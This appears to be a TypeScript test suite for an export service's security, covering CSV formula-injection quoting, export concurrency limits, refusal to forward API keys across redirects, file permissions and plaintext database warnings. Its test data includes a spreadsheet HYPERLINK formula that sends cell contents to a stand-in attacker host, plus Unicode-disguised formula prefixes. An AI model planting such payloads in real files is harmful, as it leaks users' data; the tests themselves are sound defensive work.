// Security of exports: cells for a spreadsheet, load on ClickHouse, and the host that the command line sends a key to
// (security 20, 25, 26, 30, 31, 35).
import { mkdtemp, readFile, stat, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import t from 'tap'
import { targetOf } from '../../src/cli/client.js'
import { ConfigError, isLoopback, plainStores, readConfig } from '../../src/config.js'
import { inertText } from '../../src/control/export/formulas.js'
import { exportEvents } from '../../src/control/export/handlers.js'
import { command } from '../command.js'
import { bootstrapKey, startHere } from '../harness.js'
import { temporaryDirectory } from '../stores.js'

const dataDir = join(await temporaryDirectory(t), 'data')
const { client, tollgate } = await startHere(t, { TOLLGATE_DATA_DIR: dataDir, TOLLGATE_LIMITS: 'off' })
const fetched = (path: string) => fetch(client.url + path, { headers: { 'X-Service-Api-Key': client.key } })

t.test('security 20: a cell that a spreadsheet would execute begins with a quote', async t => {
  const names = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '  =1+2',
    '\u00a0=1+3',
    '\u3000+1+4',
    '\u200b@SUM(2)',
    '\ufeff=1+5',
    '\u0001=1+6',
    '＝1+7',
    '＋1+8',
    '－1+9',
    '＠SUM(3)',
    ' ﹦1+10',
    'plain=1',
  ]
  for (const event of names)
    await client.ok('POST', '/events', { event_type: 'track', body: { event, company: { slug: 'a' } } })
  for (const path of ['/export/usage', '/export/events']) {
    const answer = await fetched(`${path}?format=csv`)
    t.match(answer.headers.get('content-disposition'), /^attachment; filename="\w+\.csv"$/, path)
    const text = await answer.text()
    const cells = text.split('\n').flatMap(line => line.split(/,(?=")/))
    for (const cell of cells) t.notMatch(cell, /^"?[\p{Z}\p{C}]*[=+@\t＝＋－＠﹦-]/u, `${path} ${cell}`)
    t.ok(text.includes("'=HYPERLINK"), 'the text is there, behind a quote')
    t.ok(text.includes('"plain=1"'), 'other texts are as they are')
    const raw = await (await fetched(`${path}?format=csv&raw=true`)).text()
    t.ok(raw.includes('"=HYPERLINK'), 'as they are where that is asked for')
    const lines = await (await fetched(`${path}?format=ndjson`)).text()
    t.ok(lines.includes('"=HYPERLINK'), "JSON is nobody's formula")
  }
})

t.test('security 20: an environment has two exports at once', async t => {
  const tries = await Promise.all(Array.from({ length: 12 }, () => fetched('/export/events?format=csv')))
  const refused = tries.filter(answer => answer.status === 503)
  t.ok(refused.length > 0, `${refused.length} of 12 are refused`)
  t.ok(refused.every(answer => answer.headers.has('retry-after')))
  await Promise.all(tries.map(answer => answer.text()))
  const after = await fetched('/export/events?format=csv')
  t.equal(after.status, 200, 'and again when they are over')
  await after.text()
})

t.test('security 20: a page beyond the largest response is requested in halves', async t => {
  const { environment_id: environmentId } = await client.ok('GET', '/whoami')
  const note = 'x'.repeat(1_000)
  const events = Array.from({ length: 60 }, (_, n) => ({
    event_type: 'track',
    body: { event: `large${n}`, company: { slug: 'large' }, traits: { note } },
  }))
  await client.ok('POST', '/event-batch', { events })
  const { services } = tollgate
  const { clickhouse } = services
  const bounded = {
    ...clickhouse,
    bytes: (sql: string, parameters?: Parameters<typeof clickhouse.bytes>[1]) =>
      clickhouse.bytes(`${sql} SETTINGS max_result_bytes = 20000`, parameters),
  }
  const call = {
    services: { ...services, clickhouse: bounded },
    environment: services.keys.environment(environmentId),
    query: { format: 'ndjson' },
  } as unknown as Parameters<typeof exportEvents>[0]
  let text = ''
  for await (const piece of (await exportEvents(call)).stream!.pieces) text += Buffer.from(piece).toString()
  const told = text
    .trim()
    .split('\n')
    .map(line => JSON.parse(line).subtype as string)
    .filter(name => name.startsWith('large'))
  t.equal(told.length, 60, 'every event is there')
  t.equal(new Set(told).size, 60, 'once')
})

t.test('security 26: a key is sent only to its own host', async t => {
  const heard: (string | undefined)[] = []
  const other = createServer((request, response) => {
    heard.push(request.headers['x-service-api-key'] as string | undefined)
    response.end('{}')
  })
  const first = createServer((_, response) => {
    response.writeHead(302, { Location: `http://127.0.0.1:${(other.address() as AddressInfo).port}/` }).end()
  })
  for (const server of [other, first]) {
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
    t.teardown(() => server.close())
  }
  const url = `http://127.0.0.1:${(first.address() as AddressInfo).port}`
  const ran = await command(dataDir, ['keys', 'list'], { TOLLGATE_URL: url, TOLLGATE_KEY: 'sk_dev_x' })
  t.match(ran, { code: 1, said: /302.*sends elsewhere/ })
  t.same(heard, [], 'a redirect is not followed')

  const at = { dataDir: '/nowhere', bootstrapKey: 'sk_dev_of_this_machine' }
  t.match(await targetOf({ url: 'http://127.0.0.1:8080' }, at), { key: at.bootstrapKey })
  t.match(await targetOf({ url: 'http://[::1]:8080' }, at), { key: at.bootstrapKey })
  await t.rejects(targetOf({ url: 'https://tollgate.example.com' }, at), /sent to this machine alone/)
  const file = join(await temporaryDirectory(t), 'key')
  await writeFile(file, `${bootstrapKey}\n`)
  t.match(await targetOf({ url: 'https://tollgate.example.com', keyFile: file }, at), { key: bootstrapKey })
  const loud = await command(dataDir, ['keys', 'list', '--url', client.url, '--key', client.key])
  t.match(loud, { code: 0, said: /seen by everybody on this machine/ })
  const quiet = await command(dataDir, ['keys', 'list', '--url', client.url, '--key-file', file])
  t.match(quiet, { code: 0 })
  t.notMatch(quiet.said, /seen by everybody/)
})

t.test('security 25: files of the command line are readable by their owner alone', async t => {
  const directory = await mkdtemp(join(await temporaryDirectory(t), 'x'))
  const reach = { TOLLGATE_URL: client.url, TOLLGATE_KEY: client.key }
  const mode = async (name: string) => (await stat(join(directory, name))).mode & 0o777
  t.match(await command(dataDir, ['export', 'events', '--out', join(directory, 'e.csv')], reach), { code: 0 })
  t.equal(await mode('e.csv'), 0o600)
  const source = join(directory, 'events.ndjson')
  await writeFile(source, '{"event_type":"nonsense"}\n')
  t.match(await command(dataDir, ['import', source], reach), { code: 3 })
  t.equal(await mode('events.ndjson.rejects'), 0o600)
})

t.test('security 30: no other user may read the data directory', async t => {
  // root lets the user pass through whom Postgres runs as
  t.equal((await stat(dataDir)).mode & 0o777, process.getuid?.() === 0 ? 0o711 : 0o700)
  t.equal((await stat(join(dataDir, 'journal'))).mode & 0o777, 0o700)
})

t.test('security 31: stores that are reached in plain are spoken of', async t => {
  const said = (databaseUrl: string | null, clickhouseUrl: string | null = null) =>
    plainStores({ databaseUrl, clickhouseUrl })
  t.same(said(null), [])
  t.same(said('postgres://a@localhost/x', 'http://127.0.0.1:8123'), [])
  t.same(said('postgres:///x'), [])
  t.match(said('postgres://a@db.example.com/x'), [/not encrypted/])
  t.match(said('postgres://a@db.example.com/x?sslmode=require'), [/does not verify/])
  t.same(said('postgres://a@db.example.com/x?sslmode=verify-full', 'https://ch.example.com'), [])
  t.match(said(null, 'http://ch.example.com:8123'), [/CLICKHOUSE_URL.*not encrypted/])
  t.equal(isLoopback('127.0.0.1.example.com'), false)
})

t.test('security 35: secrets may be files', async t => {
  const file = join(await temporaryDirectory(t), 'pepper')
  await writeFile(file, 'a pepper that is long enough to be one\n')
  t.equal(readConfig({ TOLLGATE_PEPPER_FILE: file }).pepper, 'a pepper that is long enough to be one')
  await writeFile(file, 'postgres://a:b@db/x\n')
  t.equal(readConfig({ DATABASE_URL_FILE: file }).databaseUrl, 'postgres://a:b@db/x')
  t.throws(() => readConfig({ TOLLGATE_PEPPER_FILE: file, TOLLGATE_PEPPER: 'x' }), ConfigError)
  t.throws(() => readConfig({ TOLLGATE_PEPPER_FILE: '/nowhere' }), /TOLLGATE_PEPPER_FILE/)
  t.throws(() => readConfig({ TOLLGATE_SHARDS_FILE: file }), /not a setting/, 'others may not')
  await writeFile(file, '')
  t.throws(() => readConfig({ TOLLGATE_PEPPER_FILE: file }), /is empty/)
  t.equal((await readFile(file, 'utf8')).length, 0)
})

t.test('security 20: a text of any file is quoted, a number is not', async t => {
  for (const text of ['=1', ' +1+1', '－1', '\r@x', '-x', '-1e5', '- 5']) t.equal(inertText(text), `'${text}`)
  for (const text of ['', 'a=1', '-5', '-0.25', '3', ' ', 'é=1', "'=1"]) t.equal(inertText(text), text)
})
